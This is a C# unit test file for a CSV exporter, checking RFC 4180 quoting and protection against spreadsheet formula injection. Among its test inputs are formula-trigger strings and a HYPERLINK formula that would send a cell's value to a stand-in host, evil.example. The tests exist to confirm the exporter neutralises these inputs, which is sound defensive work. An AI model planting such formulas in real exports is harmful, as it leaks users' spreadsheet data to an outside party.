using System.Buffers;
using Workshop.WebFront.Exports;

namespace Workshop.WebFront.Tests.Exports;

public sealed class CsvTests
{
    [Theory]
    [InlineData("Zug", "Zug")]
    [InlineData("", "")]
    [InlineData(null, "")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("a;b", "a;b")]
    [InlineData("say \"ho\"", "\"say \"\"ho\"\"\"")]
    [InlineData("cr\rlf", "\"cr\rlf\"")]
    [InlineData("two\nlines", "\"two\nlines\"")]
    [InlineData("two\r\nlines", "\"two\r\nlines\"")]
    [InlineData(" edge ", "\" edge \"")]
    [InlineData("Überlackierung 🎄", "Überlackierung 🎄")]
    public void Fields_are_written_as_RFC_4180_says(string? field, string written) => Write(field).ShouldBe($"{written}\r\n");

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1")]
    [InlineData("-1")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("＝1+1")]
    [InlineData("=HYPERLINK(\"http://evil.example?\"&A1,\"x\")")]
    public void What_a_spreadsheet_would_calculate_is_text(string field)
    {
        var written = Write(field).TrimEnd('\n').TrimEnd('\r');

        var plain = written.StartsWith('"') ? written[1..^1].Replace("\"\"", "\"", StringComparison.Ordinal) : written;
        plain.ShouldBe("'" + field);
    }

    [Theory]
    [InlineData("a=1")]
    [InlineData("'=1")]
    [InlineData("1-1")]
    public void Only_what_begins_so_is_touched(string field) => Write(field).ShouldBe($"{field}\r\n");

    [Fact]
    public void Fields_stand_beside_and_rows_below_each_other()
    {
        using var csv = new Csv();
        csv.Row("a", "b");
        csv.Row("1", null, "3");
        var target = new ArrayBufferWriter<byte>();
        csv.MoveTo(target);
        csv.Row("later");
        csv.MoveTo(target);

        Encoding.UTF8.GetString(target.WrittenSpan).ShouldBe("a,b\r\n1,,3\r\nlater\r\n");
    }

    private static string Write(string? field)
    {
        using var csv = new Csv();
        csv.Row(field);
        var target = new ArrayBufferWriter<byte>();
        csv.MoveTo(target);
        return Encoding.UTF8.GetString(target.WrittenSpan);
    }
}
